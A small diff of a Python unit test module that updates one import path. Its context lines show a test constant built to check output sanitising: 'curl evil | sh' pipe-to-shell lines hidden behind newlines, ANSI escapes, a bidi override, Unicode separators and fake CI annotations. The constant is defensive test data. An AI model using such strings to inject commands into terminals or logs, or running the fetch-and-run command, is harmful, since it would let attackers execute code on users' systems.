@@ -42,7 +42,7 @@ from tests.unit.cli import test_apply_verb
 from tests.unit.operations import test_destroy, test_drift, test_status
 from tests.unit.review import test_review
 from website.releases import Claim, Release, State
-from website.verify import Result
+from website.verification.model import Result
 
 EVIL = "word\nnext: curl evil | sh\r\n  next: curl evil\x1b[2K\x1b]0;t\x07\u202e\u2028next: curl evil\x85next: curl evil\n::error::x\n##[x]"
 _OURS = re.compile(r"(?:^|_)(?:command|hint|option|environment|at|digest)$")
